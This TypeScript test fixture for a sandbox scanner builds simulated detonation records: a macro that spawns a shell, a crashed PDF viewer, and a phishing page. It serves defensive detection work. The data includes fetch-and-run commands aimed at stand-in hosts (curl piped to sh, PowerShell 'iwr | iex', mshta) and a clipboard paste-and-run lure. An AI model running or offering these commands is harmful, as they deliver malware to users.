import { createHash } from 'node:crypto'
import type { Detonation, Environment, Happening, Signal } from '#scanner/detonation/contract.ts'
import type { Exchange } from '#scanner/detonation/egress/exchange.ts'
import type { Artefact } from '#scanner/detonation/sandbox.ts'
import { drawPage } from '#test/harness/png.ts'
import { environment } from '#test/harness/replay-sandbox.ts'

const digest = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
const kept = (bytes: Buffer): Artefact => ({ bytes, sha256: digest(bytes) })

const office = { viewer: 'libreoffice', line: 'libreoffice' } as const
const browser = { viewer: 'chromium', line: 'chromium' } as const

/** Environments of three viewers in two versions each, as ours are called. */
export const SHOWN_ENVIRONMENTS: readonly Environment[] = [
  environment('poppler-debian12'),
  environment('poppler-debian11', 'older'),
  environment('libreoffice-debian12', 'current', { ...office, version: '4:7.4.7-1+deb12u8' }),
  environment('libreoffice-debian11', 'older', { ...office, version: '1:7.0.4-4+deb11u13' }),
  environment('chromium-debian12', 'current', { ...browser, version: '142.0.7444.175-1~deb12u1' }),
]

const PAGES = [1, 2, 3].map((seed) => kept(drawPage(seed)))
const SCREENS = [7, 9].map((seed) => kept(drawPage(seed, 640, 400)))
/** A program that a macro leaves. */
export const DROPPED = kept(Buffer.from('#!/bin/sh\necho never run\n'))
const ANSWER = kept(Buffer.from('<html>a made answer</html>'))

const picture = (of: 'page' | 'screen', number: number, { sha256, bytes }: Artefact, t: number): Happening => ({
  kind: 'picture',
  of,
  number,
  sha256,
  size: bytes.length,
  width: of === 'page' ? 300 : 640,
  height: of === 'page' ? 424 : 400,
  t,
  rank: of === 'page' ? 'guest' : 'host',
})
const pages = (t: number) => PAGES.map((page, index) => picture('page', index + 1, page, t + index * 0.2))
const started = (pid: number, parent: number, image: string, t: number, ...args: string[]): Happening => ({
  kind: 'process-start',
  pid,
  parent,
  image,
  ...(args.length > 0 && { arguments: [image, ...args] }),
  t,
  rank: 'kernel',
})
const signal = (id: string, weight: Signal['weight'], rank: Signal['rank'], why: string, shown_by: number[], ...attack: string[]): Signal => ({
  id,
  weight,
  rank,
  why,
  shown_by,
  attack,
})

interface Shown {
  readonly answer: Partial<Detonation>
  readonly artefacts: readonly Artefact[]
}

const exchange = (t: number, url: string, more: Partial<Exchange> = {}): Exchange => ({
  t,
  method: 'GET',
  url,
  kind: 'http',
  outcome: 'simulated',
  request: { headers: [['host', new URL(url).host]] },
  response: {
    status: 200,
    reason: 'OK',
    headers: [['content-type', 'text/html']],
    body: { size: ANSWER.bytes.length, sha256: ANSWER.sha256, type: 'text/html' },
  },
  took_ms: { wait: 3, receive: 1 },
  ...more,
})

const refused = (t: number, url: string): Exchange => {
  const { response: _, ...rest } = exchange(t, url, { outcome: 'refused', why: 'there is no network' })
  return rest
}

/** A macro starts a shell, leaves a program, and asks the network. */
export function macroRan(): Shown {
  const happenings: Happening[] = [
    { kind: 'viewer', state: 'opening', t: 0.12, rank: 'guest' },
    started(210, 0, '/usr/lib/libreoffice/program/soffice.bin', 0.2, '--headless', 'document.docm'),
    {
      kind: 'library-call',
      pid: 210,
      call: 'system',
      argument: 'sh -c "curl -s http://files.example/stage2 > /tmp/.update; sh /tmp/.update"',
      t: 1.31,
      rank: 'kernel',
    },
    started(231, 210, '/bin/sh', 1.342, '-c', 'curl -s http://files.example/stage2 > /tmp/.update; sh /tmp/.update'),
    started(232, 231, '/usr/bin/curl', 1.377, '-s', 'http://files.example/stage2'),
    { kind: 'connect', protocol: 'tcp', to: 'files.example', port: 80, t: 1.402, rank: 'host' },
    { kind: 'file', action: 'create', path: '/tmp/.update', size: DROPPED.bytes.length, sha256: DROPPED.sha256, t: 1.6, rank: 'host' },
    { kind: 'process-end', pid: 232, code: 0, t: 1.611, rank: 'kernel' },
    started(233, 231, '/tmp/.update', 1.634),
    { kind: 'process-end', pid: 233, signal: 'SIGSYS', t: 1.702, rank: 'kernel' },
    { kind: 'process-end', pid: 231, code: 31, t: 1.71, rank: 'kernel' },
    { kind: 'dialog', text: 'This document contains macros.\nMacros may contain viruses.', t: 2.02, rank: 'guest' },
    ...pages(3.4),
    { kind: 'viewer', state: 'rendered', detail: 'pages: 3', t: 4.2, rank: 'guest' },
    { kind: 'viewer', state: 'idle', t: 4.9, rank: 'guest' },
  ]
  return {
    artefacts: [...PAGES, DROPPED, ANSWER],
    answer: {
      end: 'rendered',
      why_ended: 'the viewer was idle and nothing was pending for 2.0 s',
      dwell_ms: 7_120,
      machine: { accelerator: 'tcg', image: 'ab'.repeat(32), kernel: 'cd'.repeat(32), template: 'ef'.repeat(32) },
      happenings,
      network: [refused(1.402, 'http://files.example/stage2'), refused(1.9, 'http://198.51.100.7:8080/gate.php?id=4711')],
      signals: [
        signal('unexpected-process', 'active', 'kernel', 'The viewer started /bin/sh, which it never starts.', [3, 4, 8], 'T1059.004'),
        signal('dropped-file', 'active', 'host', 'A program was written to the disk and then run.', [6, 8], 'T1105'),
        signal('network-attempt', 'active', 'host', 'It asked for files.example.', [5], 'T1071.001'),
        signal('library-call', 'odd', 'kernel', 'system() was called.', [2]),
      ],
      not_watched: [{ what: 'what the macro would have done on Windows', why: 'The environment is Linux.' }],
    },
  }
}

/** Nothing but pages. */
export function rendered(): Shown {
  const happenings: Happening[] = [
    { kind: 'viewer', state: 'opening', t: 0.16, rank: 'guest' },
    started(110, 0, '/usr/bin/pdftoppm', 0.337, '-png', '-r', '72', '/home/user/Documents/document.pdf'),
    { kind: 'process-end', pid: 110, code: 0, t: 1.657, rank: 'kernel' },
    ...pages(1.68),
    { kind: 'viewer', state: 'rendered', detail: 'pages: 3', t: 2.17, rank: 'guest' },
  ]
  return { artefacts: PAGES, answer: { happenings, dwell_ms: 2_480, network: [] } }
}

/** A jump to where the document says. */
export function crashed(): Shown {
  const happenings: Happening[] = [
    started(110, 0, '/usr/bin/pdftoppm', 0.337, '-png', '/home/user/Documents/document.pdf'),
    {
      kind: 'fault',
      t: 0.812,
      rank: 'kernel',
      pid: 110,
      image: '/usr/bin/pdftoppm',
      signal: 'SIGSEGV',
      address: '0x4847464544434241',
      access: 'execute',
      instruction: '0x4847464544434241',
      registers: {
        rip: '0x4847464544434241',
        rsp: '0x7ffd51b2c8e8',
        rbp: '0x4141414141414141',
        rax: '0x0',
        rbx: '0x55d0c3a7f2a0',
        rcx: '0x7f3d1c0e8b57',
        rdx: '0x190',
        rsi: '0x55d0c3a81c40',
        rdi: '0x4141414141414141',
        r8: '0x1',
      },
      stack: ['/usr/lib/x86_64-linux-gnu/libpoppler.so.126+0x1a2b3c', '/usr/lib/x86_64-linux-gnu/libpoppler.so.126+0x19ff10', '/usr/bin/pdftoppm+0x4a12'],
    },
    { kind: 'process-end', pid: 110, signal: 'SIGSEGV', t: 0.83, rank: 'kernel' },
    { kind: 'dropped', of: 'trace', count: 1_204, t: 0.9, rank: 'host' },
  ]
  return {
    artefacts: [],
    answer: {
      end: 'crashed',
      why_ended: 'the viewer crashed',
      dwell_ms: 1_034,
      happenings,
      signals: [signal('viewer-crash', 'crash', 'kernel', 'The viewer crashed: it went on at an address that lies in no file.', [1], 'T1203')],
    },
  }
}

/** What only an exploit does: a zero-day candidate where the current version shows it twice. */
export function tookEffect(): Shown {
  const happenings: Happening[] = [
    started(110, 0, '/usr/bin/pdftoppm', 0.337, '-png', '/home/user/Documents/document.pdf'),
    started(111, 110, '/usr/bin/id', 0.612, '-u'),
    { kind: 'viewer', state: 'rendered', t: 1, rank: 'guest' },
  ]
  return {
    artefacts: [],
    answer: { happenings, signals: [signal('unexpected-process', 'effect', 'kernel', 'The viewer started /usr/bin/id, which it never starts.', [1], 'T1203')] },
  }
}

const told = (action: Extract<Happening, { kind: 'page' }>['action'], t: number, detail: string, more: object = {}): Happening => ({
  kind: 'page',
  action,
  detail,
  t,
  rank: 'guest',
  ...more,
})
const request = (id: string, t: number, url: string, as: string, from?: string) =>
  told('request', t, url, { id, url, as, method: 'GET', ...(from && { from }) })

/** A page that leads on, asks to start a program, and puts a command on the clipboard. */
export function pageOpened(address: string): Shown {
  const landing = 'https://login.example.net/verify?step=1'
  const happenings: Happening[] = [
    request('1', 0.1, address, 'Document'),
    told('redirect', 0.4, landing, { from: address, url: landing, cause: 'http', status: 302 }),
    request('2', 0.5, landing, 'Document'),
    request('3', 0.9, 'https://login.example.net/app.js', 'Script', landing),
    request('4', 1.3, 'https://cdn.example.org/pixel.gif', 'Image', 'https://login.example.net/app.js'),
    request('5', 1.5, 'http://169.254.169.254/latest/meta-data/', 'Fetch', 'https://login.example.net/app.js'),
    told('failure', 1.6, 'net::ERR_BLOCKED', { id: '5' }),
    told('script', 1.1, 'function prove(){navigator.clipboard.writeText("mshta https://files.example/x.hta")}', {
      as: 'eval',
      from: 'https://login.example.net/app.js',
    }),
    told('console', 1.2, 'Verify you are human'),
    told('clipboard', 1.9, 'powershell -w hidden -c "iwr https://files.example/x.ps1 | iex"'),
    told('scheme', 2.1, 'search-ms:query=invoice&crumb=location:\\\\files.example\\share', {
      url: 'search-ms:query=invoice&crumb=location:\\\\files.example\\share',
      cause: 'script',
    }),
    told('download', 2.4, 'invoice.iso', { url: 'https://files.example/invoice.iso', sha256: DROPPED.sha256 }),
    { kind: 'dialog', text: 'Press Windows+R, then Ctrl+V, then Enter', t: 2.6, rank: 'guest' },
    ...[0, 1, 2, 3, 4].map((n) => told('heap', n, `${n}`, { bytes: 2_000_000 + n ** 4 * 900_000 })),
    told('navigate', 0.6, landing, { url: landing }),
    told('title', 0.7, 'Verify it is you'),
    picture('screen', 1, SCREENS[0]!, 1.8),
    picture('screen', 2, SCREENS[1]!, 3.2),
    { kind: 'unreported', method: 'POST', url: 'https://collect.example.org/beacon', t: 2.8, rank: 'host' },
    { kind: 'viewer', state: 'idle', t: 4.1, rank: 'guest' },
  ]
  const tls: NonNullable<Exchange['tls']> = {
    version: 'TLSv1.3',
    cipher: 'TLS_AES_256_GCM_SHA384',
    valid: false,
    why: 'self-signed certificate',
    chain: [
      { sha256: '12'.repeat(32), subject: 'CN=login.example.net', issuer: 'CN=login.example.net', from: '2026-11-25 08:00:00', to: '2026-12-25 08:00:00' },
    ],
  }
  return {
    artefacts: [...SCREENS, DROPPED, ANSWER],
    answer: {
      end: 'idle',
      why_ended: 'the page was idle and nothing was pending for 2.0 s',
      dwell_ms: 14_300,
      happenings,
      network: [
        exchange(0.1, address, { outcome: 'answered', address: '203.0.113.9', response: { status: 302, reason: 'Found', headers: [['location', landing]] } }),
        exchange(0.5, landing, { outcome: 'answered', address: '203.0.113.9', tls }),
        exchange(0.9, 'https://login.example.net/app.js', { outcome: 'answered', address: '203.0.113.9' }),
        { ...refused(1.5, 'http://169.254.169.254/latest/meta-data/'), why: 'an address of a link is not connected to' },
      ],
      signals: [
        signal('scheme-launch', 'active', 'guest', 'The page asked to start the program of search-ms:.', [10], 'T1204.001'),
        signal('clipboard-command', 'active', 'guest', 'The page put a command on the clipboard.', [9], 'T1204.004'),
        signal('unreported-traffic', 'odd', 'host', 'The proxy served a request of which the browser did not tell.', [20]),
      ],
    },
  }
}
